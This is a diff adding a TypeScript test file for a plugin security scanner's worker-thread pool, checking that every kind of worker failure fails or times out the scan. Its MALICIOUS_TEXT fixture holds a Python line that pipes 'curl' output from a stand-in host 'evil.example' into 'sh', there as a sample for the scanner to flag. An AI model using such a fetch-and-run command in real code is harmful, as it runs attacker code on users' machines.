@@ -1,0 +1,197 @@
+/**
+ * Scanning on worker threads (`engine/worker-pool.ts`): the same report as one thread gives,
+ * and every way a worker can fail leaves the scan failed, timed out or done in this thread,
+ * never passed.
+ */
+import assert from 'node:assert/strict';
+import { spawnSync } from 'node:child_process';
+import { cpSync, mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { after, before, describe, test } from 'node:test';
+import {
+	createScanWorkerPool,
+	inThreadRunner,
+	type ScanReport,
+	type ScanWorkerPool,
+	type SourceScanRequest,
+	scanPlugin,
+	sharedScanPool,
+} from '../../src/scan/index.ts';
+import { FIXTURES, testEngine } from './support.ts';
+
+const WORKERS = new URL('../fixtures/scan-workers/', import.meta.url);
+
+const MALICIOUS_TEXT =
+	'import os\n\ndef enable(api):\n    os.system("curl -s http://evil.example | sh")\n';
+
+function request(text: string, timeoutMs = 10_000): SourceScanRequest {
+	return { path: 'mod.py', language: 'python', text, timeoutMs, maxNestingDepth: 200 };
+}
+
+async function mainLane() {
+	return inThreadRunner(await testEngine(), () => performance.now());
+}
+
+function poolWith(worker: string, extra: { watchdogGraceMs?: number } = {}): ScanWorkerPool {
+	return createScanWorkerPool({
+		size: 1,
+		mainLane,
+		spawnAfterMs: 0,
+		workerFile: new URL(worker, WORKERS),
+		...extra,
+	});
+}
+
+/**
+ * A plugin of a few hundred files: the malicious samples, the real Picard plugins and every
+ * third adversarial sample, each under its own folder.
+ */
+function corpus(root: string): string {
+	const dir = join(root, 'corpus');
+	mkdirSync(dir);
+	writeFileSync(
+		join(dir, 'MANIFEST.toml'),
+		'name = "Corpus"\nuuid = "0f6c1d52-5a3e-4a4e-9c55-3b0d8f1b2c11"\n',
+	);
+	for (const set of ['malicious', 'real-picard', 'adversarial']) {
+		const samples = readdirSync(join(FIXTURES, set)).sort();
+		for (const sample of samples.filter((_, index) => set !== 'adversarial' || index % 3 === 0)) {
+			cpSync(join(FIXTURES, set, sample), join(dir, set, sample), { recursive: true });
+		}
+	}
+	return dir;
+}
+
+/** What a report says of the plugin, without where it was scanned or how long it took. */
+function verdict(report: ScanReport) {
+	return {
+		findings: report.findings,
+		files: report.files,
+		skipped: report.skipped,
+		capabilities: report.capabilities,
+	};
+}
+
+describe('scanning on worker threads', () => {
+	let root: string;
+	before(() => {
+		root = mkdtempSync(join(tmpdir(), 'vouch-scan-pool-'));
+	});
+	after(() => rmSync(root, { recursive: true, force: true }));
+
+	test('a large plugin scanned on workers gets the report one thread gives', async () => {
+		const dir = corpus(root);
+		const alone = await scanPlugin(dir, { inThread: true });
+		const pool = sharedScanPool();
+		pool.start();
+		assert.equal(await pool.started(), true, 'the workers could not start');
+		const before = pool.counts().workers;
+		const parallel = await scanPlugin(dir);
+		assert.ok(pool.counts().workers > before, 'no file was scanned on a worker');
+		assert.ok(alone.summary.high > 0, 'the corpus has high findings');
+		assert.deepEqual(verdict(parallel), verdict(alone));
+	});
+
+	test('a worker that dies on a file fails that file: the scan cannot pass', async () => {
+		const pool = poolWith('exits-on-scan.mjs');
+		try {
+			pool.start();
+			assert.equal(await pool.started(), true);
+			await assert.rejects(pool.run(request(MALICIOUS_TEXT)), { code: 'SCAN_FILE_FAILED' });
+		} finally {
+			await pool.close();
+		}
+	});
+
+	test('a worker that runs out of memory on a file fails that file, not the program', async () => {
+		const pool = poolWith('exhausts-memory.mjs');
+		try {
+			pool.start();
+			assert.equal(await pool.started(), true);
+			await assert.rejects(pool.run(request(MALICIOUS_TEXT)), { code: 'SCAN_FILE_FAILED' });
+		} finally {
+			await pool.close();
+		}
+	});
+
+	test('a scan through a pool whose worker dies fails as a whole', async () => {
+		const pool = poolWith('exits-on-scan.mjs');
+		const dir = join(root, 'dies');
+		mkdirSync(dir);
+		for (let index = 0; index < 12; index++) {
+			writeFileSync(join(dir, `mod${index}.py`), MALICIOUS_TEXT);
+		}
+		try {
+			pool.start();
+			assert.equal(await pool.started(), true);
+			await assert.rejects(scanPlugin(dir, { runner: pool }), { code: 'SCAN_FILE_FAILED' });
+		} finally {
+			await pool.close();
+		}
+	});
+
+	test('a worker silent past the file bound is ended, and the file counts as timed out', async () => {
+		const pool = poolWith('silent.mjs', { watchdogGraceMs: 50 });
+		try {
+			pool.start();
+			assert.equal(await pool.started(), true);
+			const result = await pool.run(request('x = 1\ny = 2\n', 20));
+			assert.deepEqual(result, { status: 'timeout', findings: [], lines: 2 });
+		} finally {
+			await pool.close();
+		}
+	});
+
+	for (const [worker, why] of [
+		['fails-to-load.mjs', 'cannot load'],
+		['engine-unavailable.mjs', 'cannot load its engine'],
+	] as const) {
+		test(`a worker that ${why} leaves every file to this thread`, async () => {
+			const pool = poolWith(worker);
+			try {
+				pool.start();
+				assert.equal(await pool.started(), false);
+				const result = await pool.run(request(MALICIOUS_TEXT));
+				assert.equal(result.status, 'scanned');
+				assert.ok(
+					result.status === 'scanned' && result.findings.some((f) => f.severity === 'high'),
+					'the file was not judged',
+				);
+				assert.deepEqual(pool.counts(), { workers: 0, here: 1 });
+			} finally {
+				await pool.close();
+			}
+		});
+	}
+
+	test('idle workers do not keep a program from ending', () => {
+		const script = join(root, 'ends.mjs');
+		// Beside this test: TypeScript when run from source, JavaScript when run built.
+		const ext = import.meta.url.endsWith('.ts') ? 'ts' : 'js';
+		const index = new URL(`../../src/scan/index.${ext}`, import.meta.url);
+		const dir = join(root, 'small');
+		mkdirSync(dir, { recursive: true });
+		writeFileSync(join(dir, 'mod.py'), MALICIOUS_TEXT);
+		writeFileSync(
+			script,
+			[
+				`const scanner = await import(${JSON.stringify(index.href)});`,
+				'const pool = scanner.sharedScanPool();',
+				'pool.start();',
+				'if (!(await pool.started())) process.exit(3);',
+				`const report = await scanner.scanPlugin(${JSON.stringify(dir)});`,
+				'console.log(report.summary.high);',
+			].join('\n'),
+		);
+		const flags = process.execArgv.filter((flag) => !flag.startsWith('--test'));
+		const child = spawnSync(process.execPath, [...flags, script], {
+			encoding: 'utf8',
+			// Only against a hang: an ending program takes well under a second here.
+			timeout: 120_000,
+		});
+		assert.equal(child.signal, null, 'the program did not end by itself');
+		assert.equal(child.status, 0, child.stderr);
+		assert.ok(Number(child.stdout.trim()) > 0);
+	});
+});
